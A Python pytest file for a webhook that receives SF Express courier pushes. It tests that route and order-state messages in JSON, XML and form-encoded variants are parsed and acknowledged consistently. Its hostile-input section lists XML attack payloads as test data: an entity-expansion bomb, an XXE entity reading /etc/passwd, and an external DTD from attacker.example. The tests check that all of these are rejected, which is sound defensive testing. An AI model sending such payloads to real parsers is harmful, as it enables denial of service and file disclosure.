# --- forms of pushes and their acknowledgements ---

ROUTE_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><Request service="RoutePushService" lang="zh-CN"><Body>'
    f'<WaybillRoute id="1" mailno="{WAYBILL}" orderid="{NUMBER}" acceptTime="2026-01-05 09:02:03"'
    ' acceptAddress="上海市" remark="已收取快件，快递员 李四 13900000000" opCode="50"/></Body></Request>'
)
STATE_XML = (
    f"<Request><timestamp>1767574923456</timestamp><Body><OrderState><orderNo>{NUMBER}</orderNo>"
    f"<waybillNo>{WAYBILL}</waybillNo><orderStateCode>04-40001</orderStateCode><lastTime>2026-01-05 11:00:00</lastTime>"
    "<createTm>2026-01-05 09:02:03</createTm></OrderState></Body></Request>"
)
STATE_JSON = a_state_push().decode()


def in_a_form(text: str) -> bytes:
    return urlencode({"content": text}).encode()


ROUTE_FORMS = {
    "JSON": a_route_push(),
    "JSON in a form": in_a_form(a_route_push().decode()),
    "with a byte order mark": b"\xef\xbb\xbf" + a_route_push(),
    "upper case": a_route_push().replace(b"WaybillRoute", b"WAYBILLROUTE").replace(b"Body", b"BODY"),
    "lower case": a_route_push().replace(b"WaybillRoute", b"waybillroute").replace(b"Body", b"body"),
    "without a body": json.dumps({"waybillRoute": [a_pushed_route()]}).encode(),
    "one instead of a list": json.dumps({"Body": {"WaybillRoute": a_pushed_route()}}).encode(),
    "XML": ROUTE_XML.encode(),
    "XML in a form": in_a_form(ROUTE_XML),
    "XML in a form, encoded twice": in_a_form(quote_plus(ROUTE_XML)),
    "XML in a form with %20": b"content=" + quote(ROUTE_XML, safe="").encode(),
    "XML with elements": ROUTE_XML.replace('mailno="SF1000000000001" ', "")
    .replace("/></Body>", f"><mailno>{WAYBILL}</mailno></WaybillRoute></Body>")
    .encode(),
}
STATE_FORMS = {
    "JSON": a_state_push(),
    "in a body": json.dumps({"Body": {"OrderState": [a_state()]}}).encode(),
    "capital": STATE_JSON.replace("orderState", "OrderState", 1).encode(),
    "lower case": STATE_JSON.replace("orderState", "orderstate", 1).encode(),
    "JSON in a form": in_a_form(STATE_JSON),
    "XML in a form": in_a_form(STATE_XML),
}
ROUTE_ANSWER = {"return_code": "0000", "return_msg": "成功"}
ROUTE_ANSWER_XML = '<Response service="RoutePushService"><Head>OK</Head></Response>'


@pytest.mark.parametrize("form", ROUTE_FORMS)
def test_routes_read_the_same_in_every_form_and_are_acknowledged_in_it(form: str) -> None:
    body = ROUTE_FORMS[form]
    assert read_one(body) == read_one(a_route_push())
    assert SfWebhook().authenticate({}, body, NOW) == SfWebhook().authenticate({}, a_route_push(), NOW)
    reply = SfWebhook().acknowledge(body)
    assert reply.status == 200
    if "XML" in form:
        assert (reply.content_type, reply.body) == ("text/xml", ROUTE_ANSWER_XML)
    else:
        assert (reply.content_type, json.loads(reply.body)) == ("application/json", ROUTE_ANSWER)


@pytest.mark.parametrize("form", STATE_FORMS)
def test_states_read_the_same_in_every_form_and_are_acknowledged_in_it(form: str) -> None:
    body = STATE_FORMS[form]
    assert read_one(body) == read_one(a_state_push())
    assert SfWebhook().authenticate({}, body, NOW) == SfWebhook().authenticate({}, a_state_push(), NOW)
    reply = SfWebhook().acknowledge(body)
    expected = "<Response><success>true</success></Response>" if "XML" in form else STATE_ANSWER
    assert (reply.status, reply.body) == (200, expected)


def test_the_unconfirmed_answer_to_a_state_can_be_set() -> None:
    webhook = sf.webhook(Terms({"state_answer": '{"return_code":"0000"}'}))
    assert webhook.acknowledge(a_state_push()).body == '{"return_code":"0000"}'
    assert json.loads(webhook.acknowledge(a_route_push()).body) == ROUTE_ANSWER
    assert sf.webhook(Terms()).acknowledge(a_state_push()).body == STATE_ANSWER


def test_what_is_no_push_is_refused_in_words_that_sf_takes_for_a_failure() -> None:
    reply = SfWebhook().refuse()
    assert (reply.status, json.loads(reply.body)["return_code"]) == (401, "1000")


# --- hostile input ---

BOMB = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
    '<r><WaybillRoute mailno="&c;"/></r>'
)
FETCH = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><WaybillRoute mailno="SF1">&x;</WaybillRoute></r>'
NO_PUSHES = [
    b"",
    b"{}",
    b"[]",
    b"null",
    b"\xff\xfe",
    b"[" * 9999,
    b'{"a":' * 99999,
    b'{"Body":5}',
    b'{"Body":{"Other":[]}}',
    b'{"Body":{"WaybillRoute":5}}',
    b'{"Body":{"WaybillRoute":[5]}}',
    b'{"Body":{"WaybillRoute":null}}',
    b'{"timestamp":' + b"9" * 5000 + b',"orderState":[{}]}',
    b"content=",
    b"content=text",
    b"content=%3Ca",
    b"content=%253Ca%253E",
    b"content=1&content=2",
    b"&".join(b"a=1" for _ in range(99)),
    b"<a/>",
    b"<a>",
    b"<WaybillRoute>&undefined;</WaybillRoute>",
    b"<a><WaybillRoute/><OrderState/></a>",
    BOMB.encode(),
    FETCH.encode(),
    in_a_form(BOMB),
    in_a_form('<!DOCTYPE r SYSTEM "https://attacker.example/r.dtd"><r><WaybillRoute mailno="SF1"/></r>'),
    f'<?xml version="1.0" encoding="UTF-16"?>{BOMB}'.encode(),
]


@pytest.mark.parametrize("body", NO_PUSHES, ids=lambda body: repr(body[:40]))
def test_what_is_no_push_of_sf_is_forged(body: bytes) -> None:
    with pytest.raises(Forged):
        SfWebhook().authenticate({}, body, NOW)


def test_elements_however_deep_are_no_harm() -> None:
    depth = 50_000
    with pytest.raises(Forged):
        SfWebhook().authenticate({}, b"<a>" * depth + b"</a>" * depth, NOW)


def test_an_empty_push_is_acknowledged_and_tells_nothing() -> None:
    body = b'{"Body":{"WaybillRoute":[]}}'
    assert SfWebhook().authenticate({}, body, NOW)
    assert SfWebhook().read(body) == ()


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda each: st.lists(each, max_size=3) | st.dictionaries(st.text(max_size=8), each, max_size=3),
    max_leaves=8,
)
FIELDS = sorted({*a_pushed_route(), *a_state(), "firstStatusCode", "secondaryStatusCode"})
ELEMENTS = st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=8)
PLAUSIBLE = st.builds(lambda whole, changes: whole | changes, st.sampled_from([a_pushed_route(), a_state()]), ELEMENTS)
PUSHES = st.builds(
    lambda name, elements, more: json.dumps(more | {name: elements}).encode(),
    st.sampled_from(["WaybillRoute", "orderState", "ORDERSTATE"]),
    st.lists(ELEMENTS | PLAUSIBLE | JSON, max_size=4) | JSON,
    st.dictionaries(st.sampled_from(["timestamp", "Body", "requestId"]), JSON, max_size=2),
)
XML = st.builds(
    lambda before, at, put: (before[:at] + put + before[at + len(put) :]).encode(),
    st.sampled_from([ROUTE_XML, STATE_XML, BOMB, FETCH]),
    st.integers(0, 300),
    st.text("<>&;\"'=/!?[]ab\x00张", max_size=6),
)
BODIES = st.binary(max_size=60) | PUSHES | XML | (PUSHES | XML).map(lambda body: b"content=" + quote(body).encode())


@settings(deadline=None)
@given(BODIES)
def test_no_body_does_more_than_be_refused_or_make_no_sense(body: bytes) -> None:
    webhook = SfWebhook()
    try:
        identity = webhook.authenticate({}, body, NOW)
    except Forged:
        return
    assert identity == webhook.authenticate({}, body, NOW)
    assert webhook.acknowledge(body).status == 200
    try:
        told = webhook.read(body)
    except ValueError:
        return
    for news in told:
        assert (news.state in COURIER_STATES, news.reason in {"", *COURIER_REASONS}) == (True, True)
        assert news.at.astimezone(UTC)
        assert f"{news.identity}{news.code}{news.order}{news.waybill}".isascii()


@settings(deadline=None)
@given(st.lists(st.integers(0, 59), min_size=1, max_size=10), st.randoms(use_true_random=False))
def test_a_batch_has_one_identity_in_any_order(moments: list[int], random: Any) -> None:
    shuffled = a_batch(*moments)
    random.shuffle(shuffled)
    bodies = (a_route_push(*a_batch(*moments)), a_route_push(*shuffled))
    assert len({SfWebhook().authenticate({}, body, NOW) for body in bodies}) == 1
